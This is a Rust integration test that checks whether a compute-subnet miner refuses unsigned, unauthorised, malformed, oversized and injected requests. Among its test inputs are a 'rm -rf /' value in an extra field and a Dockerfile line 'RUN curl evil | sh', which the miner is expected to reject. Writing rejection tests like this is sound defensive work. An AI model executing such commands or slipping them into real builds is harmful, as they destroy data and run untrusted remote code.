//! Bad input at the miner's door: unsigned, unauthorised, malformed, oversized and invalid
//! requests get clear errors; nothing crashes and the miner keeps serving.

use crate::common;

use std::time::Duration;

use ganglion_chain::HyperparamUpdate;
use ganglion_chain_node::testkit::{Neuron, SubnetBuilder};
use ganglion_compute::miner;
use ganglion_compute::pow;
use ganglion_compute::protocol::{Allocate, CapacityRequirement, Challenge, DeviceRequirement, DockerRequirement, route};
use ganglion_protocol::epistula::EpistulaRequestExt;
use rand::SeedableRng;

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn malformed_and_unauthorised_requests_are_refused_clearly() {
    let dir = tempfile::tempdir().unwrap_or_else(|e| panic!("{e}"));
    let subnet = SubnetBuilder::new()
        .data_dir(dir.path().join("chain"))
        .block_time(Duration::from_millis(100))
        .tempo(10)
        .hyperparams(HyperparamUpdate { weights_rate_limit: Some(0), ..Default::default() })
        .neuron(Neuron::new("//BadVCold", "//BadVHot").stake(2_000).validator())
        .neuron(Neuron::new("//BadMCold", "//BadMHot"))
        .build()
        .await;
    let (chain, netuid) = (subnet.chain.clone(), subnet.netuid);
    let vhot = subnet.neuron("//BadVHot").hotkey.clone();
    let mhot = subnet.neuron("//BadMHot").hotkey.clone();
    let config = common::node_config(netuid, &dir.path().join("miner"));
    let miner = miner::spawn(&config, mhot.clone(), chain.clone(), None).await.unwrap_or_else(|e| panic!("miner: {e}"));
    let base = format!("http://{}", miner.addr);
    let http = ganglion_tls::ClientTls::system().http_client().unwrap_or_else(|e| panic!("{e}"));
    let post = |keypair: Option<&ganglion_core::keys::Keypair>, route: &str, body: Vec<u8>| {
        let request = http.post(format!("{base}{route}")).header("content-type", "application/json");
        let request = match keypair {
            Some(k) => request.epistula(k, Some(&mhot.public()), body),
            None => request.body(body),
        };
        async move {
            let response = request.send().await.unwrap_or_else(|e| panic!("send: {e}"));
            let status = response.status().as_u16();
            let body: serde_json::Value = response.json().await.unwrap_or_default();
            (status, body)
        }
    };
    let (spec, _) = pow::generate(3, &mut rand::rngs::StdRng::seed_from_u64(1));
    let good = serde_json::to_vec(&Challenge::from_spec(&spec)).unwrap_or_default();

    let (status, body) = post(None, route::CHALLENGE, good.clone()).await;
    assert_eq!((status, body["error"]["code"].as_str()), (400, Some("missing_header")));
    let stranger = common::key("//NotRegistered");
    let (status, body) = post(Some(&stranger), route::CHALLENGE, good.clone()).await;
    assert_eq!((status, body["error"]["code"].as_str()), (403, Some("caller_denied")), "{body}");
    let (status, body) = post(Some(&vhot), route::CHALLENGE, b"{not json".to_vec()).await;
    assert_eq!((status, body["error"]["code"].as_str()), (400, Some("invalid")));
    let mut bad = Challenge::from_spec(&spec);
    bad.challenge_mask = "?1?1?1?1?1?1?1?1?1?1?1?1?1".into();
    let (status, body) = post(Some(&vhot), route::CHALLENGE, serde_json::to_vec(&bad).unwrap_or_default()).await;
    assert_eq!(status, 400);
    assert!(body["error"]["message"].as_str().is_some_and(|m| m.contains("challenge_mask")), "{body}");
    // Too large: 413 — or, when the miner answers before the client has finished sending
    // (it stops reading at the limit), a connection closed under the sender. Either way the
    // body was refused unread.
    let oversized = http.post(format!("{base}{}", route::CHALLENGE)).header("content-type", "application/json").epistula(&vhot, Some(&mhot.public()), vec![b' '; 64 * 1024]);
    match oversized.send().await {
        Ok(response) => assert_eq!(response.status().as_u16(), 413),
        Err(e) => assert!(e.is_request() || e.is_body(), "not a refusal of the body: {e}"),
    }
    let mut with_extra = serde_json::to_value(Challenge::from_spec(&spec)).unwrap_or_default();
    with_extra["challenge_command"] = serde_json::json!("rm -rf /");
    let (status, _) = post(Some(&vhot), route::CHALLENGE, serde_json::to_vec(&with_extra).unwrap_or_default()).await;
    assert_eq!(status, 400, "unknown fields are refused");

    let client = ganglion_compute::protocol::client(vhot.clone()).unwrap_or_else(|e| panic!("{e}"));
    let injected = Allocate {
        timeline: 1,
        checking: false,
        public_key: hex::encode([9u8; 32]),
        device_requirement: DeviceRequirement {
            ram: CapacityRequirement { capacity: 1 << 30 },
            hard_disk: CapacityRequirement { capacity: 1 << 30 },
            ..DeviceRequirement::default()
        },
        docker_requirement: DockerRequirement { dockerfile: "RUN curl evil | sh".into(), ..DockerRequirement::default() },
        ..Allocate::default()
    };
    let refused = client.call::<_, Allocate>(&base, &mhot.public(), route::ALLOCATE, &injected, Duration::from_secs(10)).await;
    let failure = refused.err();
    assert!(
        matches!(&failure, Some(ganglion_neuron::PeerFailure::Status { status: 400, message }) if message.contains("dockerfile")),
        "{failure:?}"
    );
    let release = Allocate { timeline: 0, checking: false, ..Allocate::default() };
    let reply = client.call::<_, Allocate>(&base, &mhot.public(), route::ALLOCATE, &release, Duration::from_secs(10)).await;
    let output = reply.unwrap_or_else(|e| panic!("{e}")).body.output;
    assert!(!output.status && output.error.as_deref().is_some_and(|e| e.contains("no active allocation")), "{output:?}");

    // After all that, a good challenge is still solved.
    let reply = client.call::<_, Challenge>(&base, &mhot.public(), route::CHALLENGE, &Challenge::from_spec(&spec), Duration::from_secs(30)).await;
    let answer = reply.unwrap_or_else(|e| panic!("{e}")).body.output;
    assert!(answer.password.is_some_and(|p| spec.is_solved_by(&p)));
    let metrics = http.get(format!("{base}/metrics")).send().await.unwrap_or_else(|e| panic!("{e}")).text().await.unwrap_or_default();
    assert!(metrics.contains("compute_miner_challenges_total{outcome=\"invalid\"} 1"), "{metrics}");
    assert!(metrics.contains("compute_miner_solve_seconds_count{outcome=\"solved\"} 1"), "{metrics}");
    // The miner's status is the runtime's schema, on the axon's address.
    let status: serde_json::Value = http.get(format!("{base}/status")).send().await.unwrap_or_else(|e| panic!("{e}")).json().await.unwrap_or_default();
    assert_eq!((status["subnet"].as_str(), status["role"].as_str()), (Some("compute"), Some("miner")), "{status}");

    miner.shutdown().await;
    subnet.shutdown().await;
}
